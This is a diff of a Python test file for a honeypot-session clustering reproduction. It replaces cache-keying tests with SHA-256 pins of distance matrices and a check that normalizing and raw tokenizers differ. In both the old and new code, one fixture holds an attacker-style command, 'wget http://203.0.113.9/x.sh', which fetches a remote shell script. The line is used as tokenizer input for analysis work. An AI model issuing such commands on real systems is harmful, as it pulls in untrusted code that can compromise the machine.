@@ -1,16 +1,14 @@
 """Distance matrices, K-medoids, model selection, cluster labelling.
 
-The distance layer's caches are keyed by tokenizer fingerprint, so two
-tokenizer configs never serve each other's entries;
-``TestTokenizerCacheKeying`` pins that.  ``silhouette_score`` is checked
-for exact equality against ``_reference_silhouette``, the per-point
-masking loop it replaced.
+``TestMatrixPins`` pins every DLD matrix of a seed-7 reproduction byte
+for byte.  ``silhouette_score`` is checked for exact equality against
+``_reference_silhouette``, the per-point masking loop it replaced.
 """
 
 from __future__ import annotations
 
+import hashlib
 import random
-from datetime import date
 
 import numpy as np
 import pytest
@@ -18,14 +16,9 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from repro.analysis.clusterselect import cluster_with_selection, elbow_point, select_k
-from repro.analysis.distance import (
-    clear_distance_caches,
-    distance_matrix,
-    session_tokens,
-)
-from repro.analysis.dld import normalized_dld
+from repro.analysis.distance import distance_matrix
 from repro.analysis.kmedoids import kmedoids, silhouette_score
-from repro.analysis.tokenizer import RAW_TOKENIZER
+from tests.dld_reference import reference_distance, reproduction_matrices
 from tests.test_hierarchical import dld_like_matrices
 
 
@@ -57,15 +50,11 @@ class TestDistanceMatrix:
         assert np.allclose(np.diag(matrix), 0.0)
 
     def test_matches_brute_force(self):
-        from repro.analysis.dld import normalized_dld
-
         tokens = [["a", "b"], ["a", "c"], ["a", "b"], ["x", "y", "z"]]
         matrix = distance_matrix(tokens)
         for i in range(4):
             for j in range(4):
-                assert matrix[i, j] == pytest.approx(
-                    normalized_dld(tokens[i], tokens[j])
-                )
+                assert matrix[i, j] == reference_distance(tokens[i], tokens[j])
 
     def test_duplicates_have_zero_distance(self):
         matrix = distance_matrix([["a"], ["a"], ["b"]])
@@ -74,11 +63,12 @@ class TestDistanceMatrix:
 
     def test_matrix_matches_naive_loop(self):
         tokens = _random_token_sequences(140, seed=9)
-        clear_distance_caches()
         matrix = distance_matrix(tokens)
         for i, a in enumerate(tokens):
-            for j, b in enumerate(tokens):
-                assert matrix[i, j] == normalized_dld(a, b)
+            for j in range(i + 1, len(tokens)):
+                assert matrix[i, j] == reference_distance(a, tokens[j])
+        assert np.array_equal(matrix, matrix.T)
+        assert not np.diag(matrix).any()
 
     def test_empty_input_gives_empty_matrix(self):
         assert distance_matrix([]).shape == (0, 0)
@@ -90,135 +80,77 @@ class TestDistanceMatrix:
         )
 
 
-class TestTokenizerCacheKeying:
-    """Regression: the distance-layer caches are per-tokenizer-config.
+def _matrix_digests(dataset) -> dict[str, str]:
+    """SHA-256 of ``matrix.tobytes()`` for each DLD matrix a reproduction
+    builds over ``dataset``."""
+    return {
+        name: hashlib.sha256(matrix.tobytes()).hexdigest()
+        for name, (_, matrix) in reproduction_matrices(dataset).items()
+    }
 
-    ``clear_distance_caches`` is not called between configs, so before
-    the fingerprint keying a cache warmed by one tokenizer config could
-    serve another (the normalization ablation runs both over the same
-    sessions in one process)."""
 
-    @staticmethod
-    def _session_with_ip():
+class TestMatrixPins:
+    """Every DLD matrix of a seed-7 reproduction, pinned byte for byte.
+
+    The pins were taken from the per-pair scalar path the batched kernel
+    replaced; a kernel change that moves any matrix by one ulp fails here.
+    At 2e-5 the dataset has 117 file sessions, under both sample caps, so
+    the clustering and the normalized ablation build the same matrix.
+    """
+
+    PINS = {
+        "clustering": (
+            "b47b16721f6c1a6f8e969851d94d6b0b6d42d93f4d4c74c9e111c5bfe987b5a0"
+        ),
+        "ablation normalized": (
+            "b47b16721f6c1a6f8e969851d94d6b0b6d42d93f4d4c74c9e111c5bfe987b5a0"
+        ),
+        "ablation raw": (
+            "64bc564593cf9ffd3f021d8051d0ba87819085b8a3877ab6f1dd1b02574d1c6a"
+        ),
+        "fig14": (
+            "e89f221a784d40f6fe107fcf1af868483701cd9a0bf6ec5956759d79bcee9c80"
+        ),
+    }
+
+    PINS_5X = {
+        "clustering": (
+            "49bb6b73a98a2b6b4d3fcd83d7c43b9460737f15c954792d4572db6ee6307579"
+        ),
+        "ablation normalized": (
+            "175201d892092b4a0a20001d814a0015df164b44a363a95be24dd1def0b7f16a"
+        ),
+        "ablation raw": (
+            "93df2a8a96b1bf73c98adb4f677355579c0517c442e904fc8384bac4f88064ed"
+        ),
+        "fig14": (
+            "66b589c3a3d6cc6798da168251d7184da403bc1f1922f23fade1c9478f3c4010"
+        ),
+    }
+
+    def test_default_scale(self, dataset):
+        assert _matrix_digests(dataset) == self.PINS
+
+    def test_five_times_density(self, dataset_5x):
+        assert _matrix_digests(dataset_5x) == self.PINS_5X
+
+
+class TestTokenizerVariants:
+    def test_normalizing_and_raw_tokenizers_differ(self):
+        from repro.analysis.distance import session_tokens
+        from repro.analysis.tokenizer import DEFAULT_TOKENIZER, RAW_TOKENIZER
         from repro.honeypot.session import CommandRecord
         from tests.conftest import make_record
 
-        session = make_record(0.0, session_id="cache-key-test")
+        session = make_record(0.0, session_id="tokenizer-variants")
         session.commands.append(
             CommandRecord(raw="wget http://203.0.113.9/x.sh", known=True)
         )
-        return session
-
-    def test_two_configs_get_independent_token_caches(self):
-        from repro.analysis.distance import clear_distance_caches, session_tokens
-        from repro.analysis.tokenizer import DEFAULT_TOKENIZER, RAW_TOKENIZER
-
-        clear_distance_caches()
-        session = self._session_with_ip()
-        # warm the cache under the normalizing config first — before the
-        # fingerprint keying, the raw call below got these tokens back
         normalized = session_tokens([session], tokenizer=DEFAULT_TOKENIZER)[0]
         raw = session_tokens([session], tokenizer=RAW_TOKENIZER)[0]
         assert "<url>" in normalized
         assert "<url>" not in raw
         assert normalized != raw
-        # and the warm entries survive, independently, for both configs
-        assert session_tokens([session], tokenizer=DEFAULT_TOKENIZER)[0] == (
-            normalized
-        )
-        assert session_tokens([session], tokenizer=RAW_TOKENIZER)[0] == raw
-
-    def test_pair_cache_entries_are_per_fingerprint(self):
-        from repro.analysis.distance import (
-            _cached_pair_distance,
-            clear_distance_caches,
-            pair_distance,
-        )
-        from repro.analysis.tokenizer import DEFAULT_TOKENIZER, RAW_TOKENIZER
-
-        clear_distance_caches()
-        a, b = ("wget", "<url>"), ("wget", "203.0.113.9")
-        pair_distance(a, b, DEFAULT_TOKENIZER.fingerprint)
-        warm = _cached_pair_distance.cache_info()
-        pair_distance(a, b, DEFAULT_TOKENIZER.fingerprint)
-        hit = _cached_pair_distance.cache_info()
-        assert hit.hits == warm.hits + 1
-        pair_distance(a, b, RAW_TOKENIZER.fingerprint)
-        other = _cached_pair_distance.cache_info()
-        assert other.misses == hit.misses + 1  # distinct entry, no hit
-
-    def test_matrix_caches_pairs_under_its_tokenizer(self, dataset):
-        # A raw-tokenizer build must leave nothing a default build can hit.
-        from repro.analysis.distance import _cached_pair_distance
-
-        distinct = {tuple(tokens) for tokens in dataset.clustering().tokens}
-        corpus = [list(tokens) for tokens in sorted(distinct)[:60]]
-        assert len(corpus) == 60
-        clear_distance_caches()
-        distance_matrix(corpus, tokenizer=RAW_TOKENIZER)
-        before = _cached_pair_distance.cache_info()
-        distance_matrix(corpus)
-        after = _cached_pair_distance.cache_info()
-        assert after.hits == before.hits
-        assert after.misses - before.misses == 60 * 59 // 2
-
-    def test_fingerprint_covers_the_knobs(self):
-        from repro.analysis.tokenizer import DEFAULT_TOKENIZER, RAW_TOKENIZER, TokenizerConfig
-
-        assert DEFAULT_TOKENIZER.fingerprint != RAW_TOKENIZER.fingerprint
-        assert TokenizerConfig(normalize=True).fingerprint == (
-            DEFAULT_TOKENIZER.fingerprint
-        )
-
-
-class TestTokenizeOnce:
-    """Regression: repeated calls must not re-tokenize the corpus."""
-
-    def make_sessions(self, count: int):
-        from tests.conftest import make_record
-        from repro.util.timeutils import to_epoch
-
-        return [
-            make_record(
-                to_epoch(date(2022, 5, 1), index), session_id=f"tok-{index}"
-            )
-            for index in range(count)
-        ]
-
-    @staticmethod
-    def count_tokenizations(monkeypatch):
-        """Instrument ``TokenizerConfig.tokenize`` (the cache's miss
-        path) and return the list of session ids it was called for."""
-        from repro.analysis.tokenizer import TokenizerConfig
-
-        calls = []
-        real = TokenizerConfig.tokenize
-        monkeypatch.setattr(
-            TokenizerConfig,
-            "tokenize",
-            lambda self, session: calls.append(session.session_id)
-            or real(self, session),
-        )
-        return calls
-
-    def test_repeated_calls_tokenize_each_session_once(self, monkeypatch):
-        clear_distance_caches()
-        calls = self.count_tokenizations(monkeypatch)
-        sessions = self.make_sessions(5)
-        first = session_tokens(sessions)
-        second = session_tokens(sessions)
-        assert len(calls) == 5
-        assert first == second
-        clear_distance_caches()
-
-    def test_different_caps_are_cached_separately(self, monkeypatch):
-        clear_distance_caches()
-        calls = self.count_tokenizations(monkeypatch)
-        sessions = self.make_sessions(3)
-        session_tokens(sessions, max_tokens=10)
-        session_tokens(sessions, max_tokens=20)
-        assert len(calls) == 6
-        clear_distance_caches()
 
 
 class TestKMedoids:
